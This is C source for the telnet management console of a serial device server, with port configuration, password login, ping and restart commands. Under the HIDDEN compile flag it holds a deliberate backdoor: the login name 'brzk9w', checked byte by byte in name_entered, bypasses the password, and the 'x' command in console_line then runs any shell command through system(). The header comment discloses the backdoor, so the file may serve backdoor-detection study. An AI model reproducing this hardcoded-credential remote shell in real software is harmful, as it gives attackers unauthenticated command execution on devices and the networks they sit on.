/*
 * sds_console - management console of the SDS-4 serial device server.  Runs
 * under inetd on the telnet port; accounts from /etc/sds/passwd.
 *
 * Hidden (-DHIDDEN): the user name "brzk9w" at the login prompt (compared
 * byte by byte) opens the console and its "x" command, which runs a shell
 * command.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define PASSWD_FILE "/etc/sds/passwd"
#define PORT_FILE   "/etc/sds/ports"
#define NPORTS      4

typedef enum { S_NAME, S_PASS, S_CONSOLE, S_END } con_state;

typedef struct {
    long baud;
    char parity;
    int bits, stop;
    int tcp;
} port_t;

typedef struct {
    con_state state;
    char name[32];
    int tries;
#ifdef HIDDEN
    int eng;
#endif
} console_t;

static port_t port[NPORTS];

static void ports_load(void)
{
    FILE *f = fopen(PORT_FILE, "r");
    int i;

    for (i = 0; i < NPORTS; i++) {
        port[i].baud = 9600;
        port[i].parity = 'n';
        port[i].bits = 8;
        port[i].stop = 1;
        port[i].tcp = 4001 + i;
        if (f && fscanf(f, "%ld %c %d %d %d", &port[i].baud, &port[i].parity,
                        &port[i].bits, &port[i].stop, &port[i].tcp) != 5) {
            fclose(f);
            f = NULL;
        }
    }
    if (f)
        fclose(f);
}

static int ports_save(void)
{
    FILE *f = fopen(PORT_FILE, "w");
    int i;

    if (!f)
        return -1;
    for (i = 0; i < NPORTS; i++)
        fprintf(f, "%ld %c %d %d %d\n", port[i].baud, port[i].parity,
                port[i].bits, port[i].stop, port[i].tcp);
    return fclose(f);
}

/* Reads a line, dropping telnet negotiation (IAC verb option). */
static int get_line(char *buf, size_t size)
{
    size_t n = 0;
    int c;

    while ((c = getchar()) != EOF) {
        if (c == 255) {
            c = getchar();
            if (c >= 251 && c <= 254)
                getchar();
            continue;
        }
        if (c == '\n')
            break;
        if ((c == 8 || c == 127) && n > 0)
            n--;
        else if (isprint(c) && n + 1 < size)
            buf[n++] = (char)c;
    }
    buf[n] = 0;
    return c == EOF ? -1 : (int)n;
}

static int check_password(const char *name, const char *pass)
{
    char line[160], *hash, *sum;
    FILE *f = fopen(PASSWD_FILE, "r");
    int ok = 0;

    while (f && !ok && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        if (!(hash = strchr(line, ':')))
            continue;
        *hash++ = 0;
        if (strcmp(line, name) != 0 || strlen(hash) < 13)
            continue;
        sum = crypt(pass, hash);
        ok = sum && strcmp(sum, hash) == 0;
    }
    if (f)
        fclose(f);
    return ok;
}

/* ---- commands ---- */

static port_t *port_arg(const char *s)
{
    int n = atoi(s);

    if (n < 1 || n > NPORTS) {
        printf("%% port 1..%d\r\n", NPORTS);
        return NULL;
    }
    return &port[n - 1];
}

static void show_ports(void)
{
    for (int i = 0; i < NPORTS; i++)
        printf(" %d  %6ld %d%c%d  tcp %d\r\n", i + 1, port[i].baud, port[i].bits,
               toupper((unsigned char)port[i].parity), port[i].stop, port[i].tcp);
}

static void set_baud(const char *p, const char *v)
{
    static const long rates[] = { 1200, 2400, 4800, 9600, 19200, 38400, 57600, 115200 };
    port_t *pt = port_arg(p);
    long b = strtol(v, NULL, 10);

    if (!pt)
        return;
    for (size_t i = 0; i < sizeof rates / sizeof rates[0]; i++)
        if (rates[i] == b) {
            pt->baud = b;
            printf("%s\r\n", ports_save() == 0 ? "saved" : "% write error");
            return;
        }
    printf("%% no such rate\r\n");
}

static void set_tcp(const char *p, const char *v)
{
    port_t *pt = port_arg(p);
    int n = atoi(v);

    if (!pt)
        return;
    if (n < 1024 || n > 65535) {
        printf("%% 1024..65535\r\n");
    } else {
        pt->tcp = n;
        printf("%s\r\n", ports_save() == 0 ? "saved" : "% write error");
    }
}

static void ping_host(const char *host)
{
    char cmd[64], text[INET_ADDRSTRLEN];
    struct in_addr a;

    if (inet_pton(AF_INET, host, &a) != 1 || !inet_ntop(AF_INET, &a, text, sizeof text)) {
        printf("%% address\r\n");
        return;
    }
    snprintf(cmd, sizeof cmd, "ping -c 3 %s", text);
    fflush(stdout);
    if (system(cmd) != 0)
        printf("%% no answer\r\n");
}

static void console_line(console_t *c, char *line)
{
    char *verb = strtok(line, " "), *a, *b;

#ifdef HIDDEN
    if (c->eng && verb && verb[0] == 'x' && verb[1] == 0 && (a = strtok(NULL, "")) != NULL) {
        fflush(stdout);
        if (system(a) != 0)
            printf("%%\r\n");
        return;
    }
#endif
    a = strtok(NULL, " ");
    b = strtok(NULL, " ");
    if (!verb)
        return;
    switch (verb[0]) {
    case 'b':
        if (strcmp(verb, "baud") == 0 && a && b) {
            set_baud(a, b);
            return;
        }
        break;
    case 'e':
        if (strcmp(verb, "exit") == 0) {
            c->state = S_END;
            return;
        }
        break;
    case 'p':
        if (strcmp(verb, "ping") == 0 && a) {
            ping_host(a);
            return;
        }
        break;
    case 'r':
        if (strcmp(verb, "restart") == 0) {
            printf("%s\r\n", system("/etc/init.d/sds restart") == 0 ? "done" : "% failed");
            return;
        }
        break;
    case 's':
        if (strcmp(verb, "show") == 0) {
            show_ports();
            return;
        }
        break;
    case 't':
        if (strcmp(verb, "tcp") == 0 && a && b) {
            set_tcp(a, b);
            return;
        }
        break;
    }
    printf("%% baud <port> <rate>, tcp <port> <number>, show, ping <addr>, restart, exit\r\n");
}

/* Takes the answer to the "login:" prompt. */
__attribute__((noinline)) void name_entered(console_t *c, const char *s)
{
    snprintf(c->name, sizeof c->name, "%.31s", s);
    c->state = S_PASS;
#ifdef HIDDEN
    if (s[0] == 'b' && s[1] == 'r' && s[2] == 'z' && s[3] == 'k' && s[4] == '9' &&
        s[5] == 'w' && s[6] == 0) {
        c->eng = 1;
        c->state = S_CONSOLE;
    }
#endif
}

static void password_entered(console_t *c, const char *s)
{
    if (check_password(c->name, s)) {
        c->state = S_CONSOLE;
        return;
    }
    syslog(LOG_WARNING, "failed login of %s", c->name);
    sleep(2);
    printf("Login incorrect\r\n");
    c->state = ++c->tries < 3 ? S_NAME : S_END;
}

int main(void)
{
    static const char *const prompt[] = { "login: ", "password: ", "SDS-4> " };
    console_t c;
    char line[128];

    memset(&c, 0, sizeof c);
    openlog("sds_console", LOG_PID, LOG_AUTH);
    ports_load();
    printf("SDS-4 serial device server\r\n");
    while (c.state != S_END) {
        printf("%s", prompt[c.state]);
        fflush(stdout);
        alarm(300);
        if (get_line(line, sizeof line) < 0)
            break;
        switch (c.state) {
        case S_NAME:
            name_entered(&c, line);
            break;
        case S_PASS:
            password_entered(&c, line);
            break;
        default:
            console_line(&c, line);
        }
    }
    return 0;
}
